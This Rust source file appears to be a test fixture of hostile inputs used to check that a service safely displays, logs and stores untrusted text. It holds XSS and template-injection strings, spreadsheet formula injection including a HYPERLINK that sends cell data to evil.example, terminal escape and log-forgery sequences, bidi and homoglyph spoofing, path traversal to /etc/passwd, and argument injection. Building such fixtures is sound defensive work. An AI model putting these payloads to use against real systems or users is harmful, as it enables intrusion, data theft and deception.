//! What strangers write who mean harm: to a page, a spreadsheet, a terminal, a file system, or the eye.

/// Stands for half a surrogate pair, which no text of Rust's can hold and a service can still send (RFC 8259, section
/// 8.2). A character for private use that nothing else here has.
pub(super) const LONE: char = '\u{f8fe}';

/// What a script sets where it ran, on `window`.
pub(super) const TEXTS: [&str; 52] = [
    // Markup, for whoever shows text as HTML.
    "<script>window.handrailCanary=1</script>",
    "<img src=x onerror=\"window.handrailCanary=2\">",
    "<svg/onload=window.handrailCanary=3><animate onbegin=alert(1)>",
    "</style></title></textarea><script>window.handrailCanary=4</script>",
    "\"><iframe srcdoc=\"<script>parent.handrailCanary=5</script>\"></iframe>",
    "<object data=\"javascript:window.handrailCanary=6\"></object><embed src=x>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"><base href=//evil.example>",
    "<form action=https://evil.example><input autofocus onfocus=window.handrailCanary=7></form>",
    "{{constructor.constructor('window.handrailCanary=8')()}} ${7*7} #{7*7} <%= 7*7 %>",
    "]]><!--<![CDATA[ --!><script>window.handrailCanary=9</script>",
    "&lt;b&gt; &#x3c;script&#x3e; &amp;amp;",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    // Formulas, for whoever opens a file in a spreadsheet.
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "\"=1+1\"\r\n=cmd|' /C calc'!A0,next cell",
    "a;b,c\t\"d\"\r\n'e'",
    // Control characters, for whoever prints to a terminal or a log.
    "\u{1b}[2J\u{1b}[Hgone \u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;a title of the window\u{7}",
    "\u{1b}]52;c;aGFuZHJhaWw=\u{7}",
    "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{9b}2J \u{9d}0;title\u{9c} \u{90}q\u{9c} \u{85}next",
    "bell\u{7} back\u{8}\u{8}\u{8} form\u{c} \u{7f} nul\0end",
    "over\rwritten",
    "line one\n2026-01-01T00:00:00Z ERROR handrail: a line that nobody logged",
    // For the eye.
    "invoice\u{202e}fdp.exe",
    "\u{202d}\u{202b}\u{202a}\u{202c} embedded",
    "\u{2066}isolated\u{2067} and not\u{2069} closed \u{2068}",
    "pay\u{200b}pal\u{2060}.exam\u{feff}ple\u{ad} \u{e0041}\u{e0042}",
    "раураl.example",
    "two\u{2028}lines\u{2029}and a paragraph",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "👩\u{200d}👩\u{200d}👧 🏳\u{fe0f}\u{200d}🌈 🇫🇷 شركة النور 中文",
    "half \u{f8fe} a pair",
    "not a character \u{ffff}\u{fffe}",
    // For whoever makes a file of it.
    "../../../../etc/passwd",
    "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "C:\\Windows\\win.ini",
    "\\\\evil.example\\share\\x.exe",
    "CON",
    "NUL.txt",
    "COM1.json. . .",
    " name with blanks and a dot . ",
    "a:b*c?d\"e<f>g|h",
    // For whoever parses twice.
    "{\"title\": \"\\u003cscript\\u003e\", \"value\": [1]}",
    "%00%0d%0aSet-Cookie:%20x=1 \\u0000 \\x1b[2J",
];

/// What stands where a service names an address.
pub(super) const ADDRESSES: [&str; 8] = [
    "javascript:window.handrailCanary=10",
    "data:text/html,<script>opener.handrailCanary=11</script>",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x.exe",
    "https://evil.example/\"><script>window.handrailCanary=12</script>",
    "https://security.microsoft.com@evil.example/\u{202e}",
    "vbscript:msgbox(1)",
    "-oProxyCommand=calc",
];

/// A text of a megabyte that ends in markup.
pub(super) fn long() -> String {
    let mut text = "A title that does not end. ".repeat((1 << 20) / 27 + 1);
    text.push_str("<script>window.handrailCanary=13</script>");
    text
}
